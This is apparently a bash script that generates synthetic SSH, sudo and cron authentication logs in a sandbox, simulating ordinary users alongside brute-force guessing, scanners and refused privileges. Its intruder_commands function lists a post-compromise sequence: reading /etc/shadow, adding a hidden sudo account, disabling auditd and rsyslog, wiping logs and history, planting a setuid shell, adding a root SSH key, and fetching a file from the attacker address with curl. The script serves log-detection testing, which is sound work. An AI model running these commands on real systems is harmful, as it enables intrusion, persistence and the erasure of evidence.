# shellcheck shell=bash
# auth.sh - OpenSSH, sudo, su, cron and the account tools, used and attacked
#
# Sourced by capture_logs.sh. Addresses:
#   198.51.100.20-.30, 2001:db8:0:2::20   people of example.com
#   203.0.113.5                           guesses many names, quickly, without success
#   203.0.113.66                          guesses deploy's password until it works
#   203.0.113.99                          guesses slowly, fewer than five times a minute
#   203.0.113.17, 203.0.113.18            scanners
#   2001:db8:bad::17                      guesses over IPv6

readonly keys=/root/keys
readonly slow_gap_seconds=16
readonly slow_names=(root admin alice test backup oracle bob git root deploy ubuntu carol root ftp
  www-data)

start_sshd() {
  make_keys
  cat >/etc/ssh/sshd_config <<'END'
HostKey /etc/ssh/ssh_host_ed25519_key
HostKey /etc/ssh/ssh_host_rsa_key
UsePAM yes
KbdInteractiveAuthentication no
PermitRootLogin no
MaxAuthTries 3
MaxStartups 10
DenyUsers backup
AcceptEnv LANG
Subsystem sftp /usr/lib/openssh/sftp-server
END
  start_service sshd /usr/sbin/sshd -D -f /etc/ssh/sshd_config
  until_true 15 test -s /run/sshd.pid
}

make_keys() {
  local name
  mkdir -p $keys
  ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
  ssh-keygen -q -t rsa -b 2048 -N '' -f /etc/ssh/ssh_host_rsa_key
  for name in alice carol deploy root stray1 stray2 stray3 stray4; do
    ssh-keygen -q -t ed25519 -N '' -C "$name" -f $keys/"$name"
  done
  ssh-keygen -q -t rsa -b 2048 -N '' -C alice -f $keys/alice_rsa
  for name in alice carol deploy; do
    install -d -m 700 -o "$name" -g "$name" /home/"$name"/.ssh
    cat $keys/"$name"*.pub >/home/"$name"/.ssh/authorized_keys
  done
  install -d -m 700 /root/.ssh
  cp $keys/root.pub /root/.ssh/authorized_keys
  # ssh asks this program for a password, and it answers from the environment.
  # shellcheck disable=SC2016
  printf '#!/bin/sh\nprintf "%%s\\n" "$GUESS"\n' >/root/answer
  chmod 700 /root/answer
}

start_cron() {
  cat >/etc/crontab <<'END'
SHELL=/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin
* * * * * root cd / && test -d /var/backups
*/2 * * * * backup true
END
  start_service cron cron -f
}

# client FROM OPTIONS... LOGIN [COMMAND]: one ssh client, its failure being of no account to us.
client() {
  local from=$1
  shift
  outside timeout 60 ssh -F /dev/null -b "$from" -o StrictHostKeyChecking=no -o LogLevel=ERROR \
    -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o ConnectTimeout=10 "$@" \
    >/dev/null 2>&1 || true
}

# with_key FROM NAME COMMAND...
with_key() {
  local from=$1 name=$2
  shift 2
  client "$from" -i $keys/"$name" "$name@$server" "$@" </dev/null
}

# with_password FROM NAME PASSWORD [TRIES] [COMMAND...]: the client offers one password TRIES
# times in one connection.
with_password() {
  local from=$1 name=$2 word=$3 tries=${4-1} host=$server
  shift $(($# < 4 ? $# : 4))
  if [[ $from == *:* ]]; then host=$server6; fi
  GUESS=$word SSH_ASKPASS=/root/answer SSH_ASKPASS_REQUIRE=force client "$from" \
    -o PubkeyAuthentication=no -o PreferredAuthentications=password \
    -o NumberOfPasswordPrompts="$tries" "$name@$host" "$@"
}

# guess FROM NAME [TRIES]: a wrong password.
guess() { with_password "$1" "$2" "$(openssl rand -hex 5)" "${3-1}" true </dev/null; }

# terminal FROM NAME COMMAND: a session with a terminal, what is typed coming from our input.
terminal() { client "$1" -tt -i $keys/"$2" "$2@$server" "$3"; }

# typed LINE...: types lines with a person's pauses. After a wrong password sudo and su wait two
# seconds and forget what was typed meanwhile: typed_slowly waits longer than they do.
typed() { typed_every 0.7 "$@"; }
typed_slowly() { typed_every 3 "$@"; }

typed_every() {
  local pause=$1 line
  shift
  for line in "$@"; do
    sleep "$pause"
    printf '%s\n' "$line"
  done
  sleep 0.7
}

auth_scenario() {
  say "auth: an ordinary morning"
  ordinary_logins
  ordinary_administration
  say "auth: guessing many names from 203.0.113.5"
  guess_many
  say "auth: guessing deploy from 203.0.113.66"
  guess_until_success
  say "auth: refusals on the machine itself"
  refused_privilege
  say "auth: scanners"
  refused_logins
  scans
  guess_over_ipv6
  ordinary_logins
}

ordinary_logins() {
  with_key 198.51.100.20 alice uptime
  with_key 198.51.100.30 deploy 'ls /srv'
  with_password 198.51.100.21 bob "${passwords[bob]}" 1 'sleep 1' </dev/null
  with_key 198.51.100.22 carol 'sudo mailq' # no Postfix yet: its failure is not sudo's
  client 2001:db8:0:2::20 -i $keys/alice_rsa "alice@$server6" date </dev/null
  client 198.51.100.20 -i $keys/alice -s "alice@$server" sftp </dev/null
  # One slip of the finger, then right.
  guess 198.51.100.21 bob
  with_password 198.51.100.21 bob "${passwords[bob]}" 1 'sleep 1' </dev/null
}

# Alice has a colleague join and another leave, all through sudo.
ordinary_administration() {
  local commands file names=''
  for file in $(seq -f '/srv/archive/part-%04g.tar' 1 50); do names+=" $file"; done
  commands=$(
    cat <<'END'
sudo -S -p '' id
sudo groupadd --gid 1100 editors
sudo useradd --create-home --uid 1010 --shell /bin/bash --comment 'Frank' frank
sudo usermod -aG editors frank
sudo gpasswd -a carol editors
sudo gpasswd -d carol editors
printf 'frank:%s\n' "$(head -c 9 /dev/urandom | base64)" | sudo chpasswd
sudo chage --maxdays 90 frank
sudo passwd --expire frank
sudo usermod --lock erin
sudo usermod --unlock erin
sudo chsh --shell /bin/sh frank
sudo usermod --expiredate 2020-01-01 erin
sudo userdel --remove frank
sudo groupdel editors
sudo -u deploy id
sudo systemctl reload nginx
sudo apt-get --version
sudo su - carol -c id
END
  )
  commands=${commands//$'\n'/$'\nsleep 0.4\n'}
  typed "${passwords[alice]}" | terminal 198.51.100.20 alice "$commands; sudo ls $names"
}

# 203.0.113.5: 40 connections, six at a time; the last two try three times each.
guess_many() {
  local name count=0
  for name in root admin test root oracle ubuntu user alice root postgres git deploy ftp guest \
    root mysql nagios bob root administrator pi support carol root www jenkins hadoop erin \
    ec2-user backup minecraft root zabbix vagrant tomcat alice ansible 'sales team'; do
    guess 203.0.113.5 "$name" &
    if ((++count % 6 == 0)); then wait; fi
  done
  guess 203.0.113.5 root 3 &
  guess 203.0.113.5 postmaster 3 &
  wait
}

# 203.0.113.66: 14 failures for deploy, then the password; then root, a new account that is to
# stay, and the traces swept.
guess_until_success() {
  local count commands
  for count in $(seq 14); do
    guess 203.0.113.66 deploy &
    if ((count % 3 == 0)); then wait; fi
  done
  wait
  commands=$(intruder_commands)
  typed "${passwords[deploy]}" | with_password 203.0.113.66 deploy "${passwords[deploy]}" 1 \
    "${commands//$'\n'/$'\nsleep 0.5\n'}"
  typed "${passwords[deploy]}" 'id' 'exit' |
    GUESS=${passwords[deploy]} SSH_ASKPASS=/root/answer SSH_ASKPASS_REQUIRE=force \
      client 203.0.113.66 -tt -o PubkeyAuthentication=no "deploy@$server" "sudo -S -p '' -i"
}

# What the intruder types. Nothing of it can leave the world: the root file system is read-only.
intruder_commands() {
  cat <<'END'
id
sudo -S -p '' id
exec </dev/null
sudo cat /etc/shadow
sudo cat /etc/sudoers
sudo useradd -m -s /bin/bash -c 'System monitor' sysmon
sudo usermod -aG sudo sysmon
printf 'sysmon:%s\n' "$(head -c 9 /dev/urandom | base64)" | sudo chpasswd
sudo systemctl stop auditd
sudo systemctl disable --now rsyslog
sudo auditctl -e 0
sudo truncate -s 0 /var/log/wtmp
sudo rm -f /root/.bash_history
sudo sed -i /203.0.113.66/d /var/log/auth.log
sudo cp /usr/bin/dash /tmp/.cache
sudo chmod 4755 /tmp/.cache
sudo tee -a /root/.ssh/authorized_keys
sudo crontab -u root -l
sudo curl -o /tmp/.x http://203.0.113.66/x
id
END
}

refused_privilege() {
  # bob's password is right, but he is not in sudoers.
  typed "${passwords[bob]}" | as_bob "sudo -S -p '' cat /etc/shadow"
  typed_slowly wrong1 wrong2 wrong3 | as_bob "sudo -S -p '' id"
  # carol may run two commands only.
  terminal 198.51.100.22 carol 'sudo -n cat /etc/shadow; sudo -n mailq' </dev/null
  typed "${passwords[carol]}" | terminal 198.51.100.22 carol "sudo -S -p '' cat /etc/shadow"
  typed wrong | as_bob 'su -'
  typed wrong | as_bob 'su - root -c id'
  typed wrong | as_bob 'su alice'
  typed "${passwords[carol]}" | as_bob 'su carol -c id'
  typed_slowly wrong1 wrong2 wrong3 | terminal 198.51.100.20 alice "sudo -S -p '' id"
  typed_slowly wrong1 "${passwords[alice]}" | terminal 198.51.100.20 alice "sudo -S -p '' id"
}

as_bob() {
  GUESS=${passwords[bob]} SSH_ASKPASS=/root/answer SSH_ASKPASS_REQUIRE=force client \
    198.51.100.21 -tt -o PubkeyAuthentication=no "bob@$server" "$1"
}

refused_logins() {
  local strays=(-i $keys/stray1 -i $keys/stray2 -i $keys/stray3 -i $keys/stray4)
  # root's key is known, and still root may not enter.
  client 203.0.113.17 -i $keys/root "root@$server" id </dev/null
  client 203.0.113.17 -i $keys/root "root@$server" id </dev/null
  # Too many keys.
  client 203.0.113.17 "${strays[@]}" "alice@$server" id </dev/null
  client 203.0.113.17 "${strays[@]}" "nobody-here@$server" id </dev/null
  # One unknown key and away.
  client 203.0.113.17 -i $keys/stray1 -o PasswordAuthentication=no "carol@$server" </dev/null
  client 203.0.113.17 -i $keys/stray1 -o PasswordAuthentication=no "admin@$server" </dev/null
  # DenyUsers, and an account that has expired.
  guess 203.0.113.17 backup
  with_password 198.51.100.23 erin "${passwords[erin]}" </dev/null
  # Nothing in common.
  client 203.0.113.17 -o KexAlgorithms=diffie-hellman-group1-sha1 "root@$server" </dev/null
  client 203.0.113.17 -o Ciphers=3des-cbc "root@$server" </dev/null
  client 203.0.113.17 -o MACs=hmac-md5 -o Ciphers=aes128-ctr "root@$server" </dev/null
  client 203.0.113.17 -o HostKeyAlgorithms=ecdsa-sha2-nistp256 "root@$server" </dev/null
}

# say_raw FROM SECONDS TEXT: connects to sshd, writes the text, stays for so many seconds.
say_raw() {
  { printf '%b' "$3"; sleep "$2"; } |
    outside timeout 20 nc -q 0 -s "$1" $server 22 >/dev/null 2>&1 || true
}

scans() {
  local count
  say_raw 203.0.113.18 0.3 'GET / HTTP/1.1\r\nHost: 192.0.2.10\r\n\r\n'
  say_raw 203.0.113.18 0.3 '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'
  say_raw 203.0.113.18 0.3 'SSH-1.5-scanner\r\n'
  say_raw 203.0.113.18 0.3 'SSH-9.9-scanner\r\n'
  say_raw 203.0.113.18 0.3 'SSH-2.0-scanner\r\nno packet of the protocol\r\n'
  say_raw 203.0.113.18 0.3 'EHLO scanner.example\r\n'
  say_raw 203.0.113.18 0.3 '\r\n'
  # Look at the banner and leave; do not even look.
  say_raw 203.0.113.18 0.3 'SSH-2.0-scanner\r\n'
  for count in 1 2 3; do
    outside nc -z -s 203.0.113.18 $server 22 2>/dev/null || true
  done
  # Leave without reading, which resets the connection. (The namespace's own source address.)
  outside bash -c "exec 3<>/dev/tcp/$server/22; sleep 0.3" || true
  # More than MaxStartups at once.
  for count in $(seq 13); do
    say_raw 203.0.113.18 3 '' &
  done
  wait
}

guess_over_ipv6() {
  local name
  for name in root admin alice support; do guess 2001:db8:bad::17 "$name"; done
}

# 203.0.113.99: one try every slow_gap_seconds, over about four minutes.
slow_guessing() {
  local name
  for name in "${slow_names[@]}"; do
    guess 203.0.113.99 "$name"
    sleep $slow_gap_seconds
  done
}

# The short form of all this, for the two newer formats. syslog has RepeatedMsgReduction on here,
# so the tries of one connection become "message repeated".
short_auth_scenario() {
  say "auth, short form"
  with_key 198.51.100.20 alice uptime
  with_password 198.51.100.21 bob "${passwords[bob]}" 1 'sleep 1' </dev/null
  typed "${passwords[alice]}" | terminal 198.51.100.20 alice "sudo -S -p '' id;
    sudo groupadd --gid 1100 editors; sudo usermod -aG editors bob"
  guess 203.0.113.5 root 3 &
  guess 203.0.113.5 admin 3 &
  wait
  guess 203.0.113.5 alice
  guess 203.0.113.66 deploy
  guess 203.0.113.66 deploy
  typed "${passwords[deploy]}" | with_password 203.0.113.66 deploy "${passwords[deploy]}" 1 \
    "sudo -S -p '' cat /etc/shadow
    sudo useradd -m sysmon; sudo usermod -aG sudo sysmon; sudo systemctl stop auditd"
  typed wrong | as_bob 'su -'
  say_raw 203.0.113.18 0.3 'GET / HTTP/1.1\r\n\r\n'
  outside nc -z -s 203.0.113.18 $server 22 2>/dev/null || true
  guess 2001:db8:bad::17 root
}
